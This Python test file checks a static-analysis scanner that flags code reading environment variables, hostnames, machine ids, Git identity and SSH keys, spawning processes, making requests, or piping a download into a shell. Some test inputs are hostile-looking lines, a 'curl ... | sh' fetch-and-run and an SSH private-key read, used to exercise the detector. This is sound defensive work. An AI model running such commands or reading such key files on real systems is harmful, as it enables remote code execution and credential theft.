"""Every pattern is found where it counts, and its row is well formed."""

import pytest

from clearance.model.contents import Language
from clearance.observe.static.lex_javascript import lex_javascript
from clearance.observe.static.lex_python import lex_python
from clearance.observe.static.patterns import begin_of, find_patterns, shipped_patterns


def found(code: str, language: Language = Language.JAVASCRIPT) -> set[tuple[str, str]]:
    data = code.encode()
    script = {Language.JAVASCRIPT: lex_javascript, Language.PYTHON: lex_python}.get(language)
    hits = find_patterns(data, language, script(data) if script else None)
    return {(hit.pattern.kind, hit.name) for hit in hits}


def test_rows_are_well_formed() -> None:
    for row in shipped_patterns():
        assert row.fact in {"read", "capability", "request"}, row
        assert row.where in {"code", "string", "any"}, row
        assert bool(row.name) or bool(row.after), row


@pytest.mark.parametrize(
    ("code", "what"),
    [
        ("let a=process.env.TZ", ("variable", "TZ")),
        ("process.env['HTTP_PROXY']", ("variable", "HTTP_PROXY")),
        ("Deno.env.get('HOME')", ("variable", "HOME")),
        ("Intl.DateTimeFormat().resolvedOptions().timeZone", ("timezone", "Intl.DateTimeFormat().resolvedOptions().timeZone")),
        ("new Date().getTimezoneOffset()", ("timezone", "getTimezoneOffset()")),
        ("os.hostname()", ("hostname", "os.hostname()")),
        ("x('/etc/machine-id')", ("machine-id", "machine id")),
        ("spawn('git',['config','user.email'])", ("git", "git identity")),
        ("client.messages.create({})", ("request", "a request to a model")),
        ("globalThis.fetch(u)", ("request", "a request")),
        ("require('child_process')", ("process", "child_process")),
        ("new Function(s)()", ("dynamic-code", "new Function")),
        ("r('~/.ssh/id_ed25519')", ("credential-files", "SSH keys")),
        ("x('curl https://a.example/i.sh | sh')", ("downloads-code", "fetched and run by a shell")),
    ],
)  # fmt: skip
def test_what_javascript_does_is_found(code: str, what: tuple[str, str]) -> None:
    assert what in found(code)


@pytest.mark.parametrize(
    ("code", "what"),
    [
        ("os.environ['TZ']", ("variable", "TZ")),
        ("os.getenv('LANG')", ("variable", "LANG")),
        ("time.tzname", ("timezone", "time.tzname")),
        ("socket.gethostname()", ("hostname", "socket.gethostname()")),
        ("subprocess.run(['x'])", ("process", "subprocess")),
        ("requests.post(u, json=b)", ("request", "a request")),
    ],
)
def test_what_python_does_is_found(code: str, what: tuple[str, str]) -> None:
    assert what in found(code, Language.PYTHON)


def test_code_in_strings_and_words_in_comments_do_not_count() -> None:
    assert found("say('process.env.SECRET and eval(x)') // child_process /etc/machine-id") == set()
    assert ("process", "child_process") not in found("child_process.run()")


def test_the_begin_of_a_hit_is_where_it_begins() -> None:
    data = b"aa;os.hostname();bb"
    (hit,) = (h for h in find_patterns(data, Language.JAVASCRIPT, lex_javascript(data)) if h.pattern.kind == "hostname")
    assert data[begin_of(hit, data) : hit.end] == b".hostname()"
